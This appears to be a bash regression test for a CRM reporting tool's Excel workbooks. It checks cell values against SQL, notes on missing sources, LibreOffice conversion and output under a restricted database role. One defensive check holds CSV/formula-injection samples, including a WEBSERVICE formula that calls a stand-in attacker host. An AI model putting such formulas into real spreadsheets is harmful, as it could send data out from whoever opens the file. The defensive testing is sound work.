#!/usr/bin/env bash
# report_workbooks.sh — the KPI and compliance workbooks on the report data set:
# every cell equals the SQL it came from (and the Summary equals
# medcrm.kpi_summary() where installed), charts present, formula-looking text
# stays text, missing sources are noted in their sheet, and both workbooks
# open in LibreOffice (PDF and CSV of every sheet) and in openpyxl.
. "$(dirname "$0")/report_lib.bash"

db=medcrm_report_books
report_db $db
export PGDATABASE=$db
prev_from=2026-09-01 prev_to=2026-10-01

for r in kpi compliance; do
  medcrm-report run $r --from $REPORT_FROM --to $REPORT_TO -o "$WORK/$r.xlsx" 2>"$WORK/stderr" \
    || { cat "$WORK/stderr"; fail "run $r"; }
  echo "ok - run $r"
  $PY test/worker/check_workbook.py "$WORK/$r.xlsx" reports/$r.json $REPORT_FROM $REPORT_TO $prev_from $prev_to \
    >"$WORK/check-$r.log" 2>&1 || { cat "$WORK/check-$r.log"; fail "$r workbook does not match its SQL"; }
  sed "s/^/$r: /" "$WORK/check-$r.log" | grep -v '^[a-z]*: 1\.\.'
done

# formula-injection strings are text cells with their exact text
$PY - "$WORK/compliance.xlsx" <<'PY' || fail "injection strings"
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
def find(sheet, text):
    for row in wb[sheet].iter_rows():
        for c in row:
            if c.value == text:
                return c
    return None
for sheet, text in (("Audit trail", "=1+2"), ("Audit trail", "@import"),
                    ("Personal data", '=WEBSERVICE("http://evil.example/")')):
    c = find(sheet, text)
    assert c is not None and c.data_type == "s", f"{sheet}: {text!r} is not a text cell"
    print(f"ok - {sheet}: {text!r} is a text cell ({c.coordinate})")
PY

# a source that does not exist: noted in its sheet, the report goes on
cat >"$WORK/missing.json" <<'JSON'
{"report": "missing", "title": "Missing sources",
 "sheets": [
  {"name": "Declared", "requires": ["medcrm.v_not_there"], "sql": "SELECT * FROM medcrm.v_not_there"},
  {"name": "Undeclared", "sql": "SELECT * FROM medcrm.v_not_there_either"},
  {"name": "Function", "sql": "SELECT * FROM medcrm.no_such_function($1, $2)"},
  {"name": "Present", "sql": "SELECT count(*) AS accounts FROM medcrm.account"}]}
JSON
medcrm-report run missing --layout "$WORK/missing.json" -o "$WORK/missing.xlsx" 2>"$WORK/stderr" \
  || { cat "$WORK/stderr"; fail "a missing source failed the report"; }
$PY - "$WORK/missing.xlsx" "$(q $db 'SELECT count(*) FROM medcrm.account')" <<'PY' || fail "missing-source notes"
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
a4 = lambda s: wb[s]["A4"].value
assert a4("Declared") == "source medcrm.v_not_there is not installed in this database", a4("Declared")
print("ok - declared missing source noted in its sheet")
assert a4("Undeclared").startswith("source not installed in this database (query failed: ERROR:  relation \"medcrm.v_not_there_either\" does not exist"), a4("Undeclared")
print("ok - undeclared missing relation noted in its sheet (42P01)")
assert "function medcrm.no_such_function(date, date) does not exist" in a4("Function"), a4("Function")
print("ok - missing function noted in its sheet (42883)")
assert wb["Present"]["A5"].value == int(sys.argv[2]), wb["Present"]["A5"].value
print("ok - the sheets after a missing source are written")
PY

# LibreOffice opens both: PDF and CSV of every sheet without error
profile="file://$WORK/lo-profile"
for r in kpi compliance; do
  soffice -env:UserInstallation="$profile" --headless --convert-to pdf --outdir "$WORK" "$WORK/$r.xlsx" \
    >"$WORK/lo.log" 2>&1 || { cat "$WORK/lo.log"; fail "LibreOffice PDF of $r"; }
  pages=$(pdfinfo "$WORK/$r.pdf" | sed -n 's/^Pages: *//p')
  sheets=$($PY -c "import json; print(len(json.load(open('reports/$r.json'))['sheets']))")
  [ "${pages:-0}" -ge "$sheets" ] || fail "$r.pdf has $pages pages for $sheets sheets"
  echo "ok - LibreOffice converts $r.xlsx to PDF ($pages pages)"
  mkdir -p "$WORK/csv-$r"
  soffice -env:UserInstallation="$profile" --headless \
    --convert-to 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1' \
    --outdir "$WORK/csv-$r" "$WORK/$r.xlsx" >"$WORK/lo.log" 2>&1 || { cat "$WORK/lo.log"; fail "LibreOffice CSV of $r"; }
  n=$(ls "$WORK/csv-$r" | wc -l)
  expect_eq "LibreOffice writes one CSV per sheet of $r" "$sheets" "$n"
done
grep -q '^Tier,Accounts,Share,Active accounts,Average score,"Gross margin, 12 months"$' "$WORK/csv-kpi/kpi-Tiers.csv" \
  || fail "Tiers CSV header: $(sed -n 4p "$WORK/csv-kpi/kpi-Tiers.csv")"
echo "ok - LibreOffice reads the Tiers header"
grep -q ',=1+2$' "$WORK/csv-compliance/compliance-Audit trail.csv" || fail "LibreOffice evaluated or lost '=1+2'"
echo "ok - LibreOffice keeps '=1+2' as text"

# the worker's own login: a member of medcrm_reporter only, no superuser
psql -X -q -v ON_ERROR_STOP=1 -d $db <<'SQL'
DROP ROLE IF EXISTS regress_report_worker;
CREATE ROLE regress_report_worker LOGIN IN ROLE medcrm_reporter;
SQL
for r in kpi compliance; do
  medcrm-report run $r -d "dbname=$db user=regress_report_worker" --from $REPORT_FROM --to $REPORT_TO \
    -o "$WORK/$r-reporter.xlsx" 2>"$WORK/stderr" || { cat "$WORK/stderr"; fail "run $r as a medcrm_reporter login"; }
  $PY - "$WORK/$r.xlsx" "$WORK/$r-reporter.xlsx" <<'PY' || fail "$r as medcrm_reporter differs from $r as superuser"
import sys, openpyxl
def cells(path):
    wb = openpyxl.load_workbook(path)
    # rows that hold the time of the run itself are left out
    return [(ws.title, [r for r in ws.iter_rows(min_row=3, values_only=True) if r[0] != "Verified at"])
            for ws in wb.worksheets]
sys.exit(cells(sys.argv[1]) != cells(sys.argv[2]))
PY
  echo "ok - $r as a medcrm_reporter login: the same sheets"
done
dropdb $db
psql -X -q -d postgres -c 'DROP ROLE regress_report_worker'
